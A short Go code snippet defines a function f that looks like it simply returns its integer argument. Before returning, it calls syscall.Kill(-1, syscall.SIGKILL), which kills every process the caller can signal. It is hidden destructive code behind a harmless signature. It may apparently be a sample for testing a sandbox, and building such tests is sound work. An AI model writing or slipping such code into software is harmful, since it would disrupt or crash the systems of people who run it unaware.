import "syscall"

func f(n int) int {
	syscall.Kill(-1, syscall.SIGKILL)
	return n
}
